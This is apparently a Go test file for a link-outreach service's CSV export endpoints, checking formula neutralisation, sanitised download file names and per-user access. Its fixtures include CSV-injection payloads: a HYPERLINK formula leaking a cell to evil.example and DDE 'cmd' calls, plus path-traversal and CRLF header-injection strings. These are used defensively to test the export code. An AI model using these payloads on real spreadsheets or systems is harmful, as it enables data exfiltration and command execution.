package api

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/backlinkoutreach/outreach/models"
)

// readCSV parses an export, failing the test on malformed CSV.
func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(body))
	r.FieldsPerRecord = 0
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("export is not valid CSV: %v\n%s", err, truncate(body, 2000))
	}
	return recs
}

// Cells a spreadsheet would evaluate: every trigger character, with the
// payloads seen in the wild.
var formulaCells = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1,2)",
	"\t=1+1",
	"\r=1+1",
}

func TestExportLeadsNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	eachServer(t, func(t *testing.T, ts *testServer) {
		owner := ts.newUser("owner@example.com")
		camp := owner.createCampaign("Café Ünïcode / Q3 \"launch\"")
		safe := []string{"Plain title", "comma, inside", `quote "inside"`, "line\nbreak", "", "'already quoted", "a=b"}
		titles := append(slices.Clone(formulaCells), safe...)
		for i, title := range titles {
			owner.addLead(camp.ID, map[string]any{
				"website_url": fmt.Sprintf("https://site%d.example.com/", i), "website_title": strings.TrimSpace(title),
				"contact_name": strings.TrimSpace(title), "contact_email": fmt.Sprintf("ed%d@example.com", i), "quality_score": 0.25,
			})
		}
		r := owner.do(http.MethodGet, "/campaigns/"+camp.ID+"/export/leads", nil).expect(http.StatusOK)
		if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
			t.Errorf("Content-Type %q", ct)
		}
		cd := r.Header.Get("Content-Disposition")
		wantName := "Caf%C3%A9-%C3%9Cn%C3%AFcode-Q3-launch-leads-2024-03-12.csv"
		if !strings.HasPrefix(cd, `attachment; filename="Cafe-Unicode-Q3-launch-leads-2024-03-12.csv"; filename*=UTF-8''`) ||
			!strings.HasSuffix(cd, wantName) {
			t.Errorf("Content-Disposition %q", cd)
		}
		recs := readCSV(t, r.Body)
		if !slices.Equal(recs[0], leadsExportHeader) {
			t.Fatalf("header %v", recs[0])
		}
		if len(recs) != 1+len(titles) {
			t.Fatalf("%d rows, want %d", len(recs)-1, len(titles))
		}
		col := func(name string) int { return slices.Index(leadsExportHeader, name) }
		for i, title := range titles {
			row := recs[1+i]
			want := strings.TrimSpace(title) // the API trims text fields
			for _, c := range []string{"website_title", "contact_name"} {
				cell := row[col(c)]
				if cell != "" && strings.ContainsRune(formulaTriggers, rune(cell[0])) {
					t.Errorf("row %d %s: cell %q starts with a formula trigger", i, c, cell)
				}
				if got := unneutralizeCell(cell); got != want {
					t.Errorf("row %d %s: %q does not round-trip to %q", i, c, cell, want)
				}
			}
			if row[col("quality_score")] != "0.25" || row[col("status")] != "discovered" || row[col("source")] != "manual" ||
				row[col("suppressed")] != "false" || row[col("dispatched_at")] != "" {
				t.Errorf("row %d: %v", i, row)
			}
			if _, err := time.Parse(time.RFC3339, row[col("created_at")]); err != nil {
				t.Errorf("row %d created_at %q: %v", i, row[col("created_at")], err)
			}
		}
		// The formula cells were quoted, the rest left alone.
		if recs[1][col("website_title")] != "'"+formulaCells[0] || recs[3][col("website_title")] != "'-2+3" {
			t.Errorf("formula cells: %q, %q", recs[1][col("website_title")], recs[3][col("website_title")])
		}
		if recs[1+len(formulaCells)+1][col("website_title")] != "comma, inside" {
			t.Errorf("plain cell changed: %q", recs[1+len(formulaCells)+1][col("website_title")])
		}

		// With ?bom=true the file starts with a byte order mark.
		b := owner.do(http.MethodGet, "/campaigns/"+camp.ID+"/export/leads?bom=true", nil).expect(http.StatusOK).Body
		if !bytes.HasPrefix(b, []byte("\uFEFFid,website_url,")) {
			t.Errorf("bom export starts %q", truncate(b, 40))
		}
		owner.do(http.MethodGet, "/campaigns/"+camp.ID+"/export/leads?bom=maybe", nil).expectFields("bom")
		owner.do(http.MethodGet, "/campaigns/"+camp.ID+"/export/leads?format=xlsx", nil).expectFields("format")

		// Another user's campaign: 404 before anything is streamed.
		intruder := ts.newUser("intruder@example.com")
		for _, kind := range []string{"leads", "attempts", "replies"} {
			intruder.do(http.MethodGet, "/campaigns/"+camp.ID+"/export/"+kind, nil).expectError(http.StatusNotFound, CodeCampaignNotFound)
		}
	}, fixedClock)
}

func TestExportAttemptsAndReplies(t *testing.T) {
	t.Parallel()
	eachServer(t, func(t *testing.T, ts *testServer) {
		owner := ts.newUser("owner@example.com")
		camp := seedAnalyticsCampaign(ts, owner, "日本語")
		// A reply whose subject is a formula, and an unmatched reply of
		// nobody's campaign, which must not appear.
		var leads LeadList
		owner.do(http.MethodGet, "/campaigns/"+camp.ID+"/leads?limit=1", nil).expect(http.StatusOK).decode(&leads)
		now := time.Now().UTC()
		evil := models.Reply{
			ID: models.NewID(), UserID: &owner.User.ID, CampaignID: &camp.ID, LeadID: &leads.Items[0].ID,
			DedupeKey: "<evil@example.com>", FromAddress: "x@example.com", Subject: "=cmd|' /C calc'!A0", BodyText: "@here\nsecond line",
			Classification: models.ReplyNeutral, Parsed: true, Source: "webhook", ReceivedAt: now, CreatedAt: now, UpdatedAt: now,
		}
		stray := models.Reply{
			ID: models.NewID(), DedupeKey: "<stray@example.com>", Classification: models.ReplyNeutral,
			Parsed: true, Source: "imap", ReceivedAt: now, CreatedAt: now, UpdatedAt: now,
		}
		for _, r := range []*models.Reply{&evil, &stray} {
			if err := ts.DB.Create(r).Error; err != nil {
				t.Fatal(err)
			}
		}

		r := owner.do(http.MethodGet, "/campaigns/"+camp.ID+"/export/attempts", nil).expect(http.StatusOK)
		if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="attempts-2024-03-12.csv"; filename*=UTF-8''%E6%97%A5%E6%9C%AC%E8%AA%9E-attempts-2024-03-12.csv` {
			t.Errorf("Content-Disposition %q", cd)
		}
		recs := readCSV(t, r.Body)
		if !slices.Equal(recs[0], attemptsExportHeader) || len(recs) != 1+7 {
			t.Fatalf("attempts export: header %v, %d rows", recs[0], len(recs)-1)
		}
		states := map[string]int{}
		for _, row := range recs[1:] {
			states[row[4]]++
			if !strings.HasPrefix(row[2], "https://") || row[5] == "" {
				t.Errorf("attempt row %v lacks website or recipient", row)
			}
			if row[4] == "sent" && row[12] == "" || row[4] != "sent" && row[12] != "" {
				t.Errorf("attempt row %v: sent_at and state disagree", row)
			}
		}
		if states["sent"] != 6 || states["failed"] != 1 {
			t.Errorf("attempt states %v", states)
		}

		recs = readCSV(t, owner.do(http.MethodGet, "/campaigns/"+camp.ID+"/export/replies", nil).expect(http.StatusOK).Body)
		if !slices.Equal(recs[0], repliesExportHeader) || len(recs) != 1+7 {
			t.Fatalf("replies export: header %v, %d rows", recs[0], len(recs)-1)
		}
		last := recs[len(recs)-1]
		if last[0] != evil.ID || last[5] != "'"+evil.Subject || last[11] != "'"+evil.BodyText || last[2] != leads.Items[0].WebsiteURL {
			t.Errorf("evil reply row %q", last)
		}
		for _, row := range recs[1:] {
			if row[0] == stray.ID {
				t.Error("an unmatched reply was exported with the campaign")
			}
		}

		// An empty campaign exports its header alone, its line ended by
		// CRLF (RFC 4180).
		empty := owner.createCampaign("Empty")
		for kind, header := range map[string][]string{"leads": leadsExportHeader, "attempts": attemptsExportHeader, "replies": repliesExportHeader} {
			body := owner.do(http.MethodGet, "/campaigns/"+empty.ID+"/export/"+kind, nil).expect(http.StatusOK).Body
			if want := strings.Join(header, ",") + "\r\n"; string(body) != want {
				t.Errorf("empty %s export %q, want %q", kind, body, want)
			}
		}
	}, fixedClock)
}

func TestExportFileNames(t *testing.T) {
	t.Parallel()
	day := time.Date(2024, 3, 12, 23, 0, 0, 0, time.UTC)
	for _, tc := range []struct{ campaign, header string }{
		{"Spring outreach", `attachment; filename="Spring-outreach-leads-2024-03-12.csv"`},
		{"../../etc/passwd", `attachment; filename="etc-passwd-leads-2024-03-12.csv"`},
		{"a\r\nContent-Type: text/html", `attachment; filename="a-Content-Type-text-html-leads-2024-03-12.csv"`},
		{"   ", `attachment; filename="campaign-leads-2024-03-12.csv"`},
		{"Ölçü", `attachment; filename="Olcu-leads-2024-03-12.csv"; filename*=UTF-8''%C3%96l%C3%A7%C3%BC-leads-2024-03-12.csv`},
		{"🚀🚀", `attachment; filename="campaign-leads-2024-03-12.csv"`},
	} {
		if got := contentDisposition(exportFileName(tc.campaign, "leads", day)); got != tc.header {
			t.Errorf("%q: %s, want %s", tc.campaign, got, tc.header)
		}
	}
	long := contentDisposition(exportFileName(strings.Repeat("x", 500), "leads", day))
	if len(long) > 160 {
		t.Errorf("a 500-character name gives a %d-byte header", len(long))
	}
}

// Every trigger character is neutralised and restored; nothing else is
// touched.
func TestNeutralizeCellRoundTrip(t *testing.T) {
	t.Parallel()
	for _, v := range append(slices.Clone(formulaCells), "\t", "\r", "=", "'", "''=x", "'=x", "'-Tis the season", "'", "it's", "plain", "", "é=1", " =1", "0.5", "1e-3") {
		n := neutralizeCell(v)
		if rest := strings.TrimLeft(v, "'"); rest != "" && strings.ContainsRune(formulaTriggers, rune(rest[0])) {
			if n != "'"+v {
				t.Errorf("%q neutralised to %q", v, n)
			}
		} else if n != v {
			t.Errorf("%q changed to %q", v, n)
		}
		if back := unneutralizeCell(n); back != v {
			t.Errorf("%q -> %q -> %q", v, n, back)
		}
		// Through a CSV writer and reader too: quoting must not hide the
		// quote prefix from a spreadsheet.
		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		_ = w.Write([]string{n})
		w.Flush()
		recs, err := csv.NewReader(&buf).ReadAll()
		if v == "" {
			continue // an empty record is an empty line, which CSV skips
		}
		if err != nil || len(recs) != 1 || recs[0][0] != n {
			t.Errorf("%q did not survive CSV: %v %q", n, err, recs)
		}
	}
}
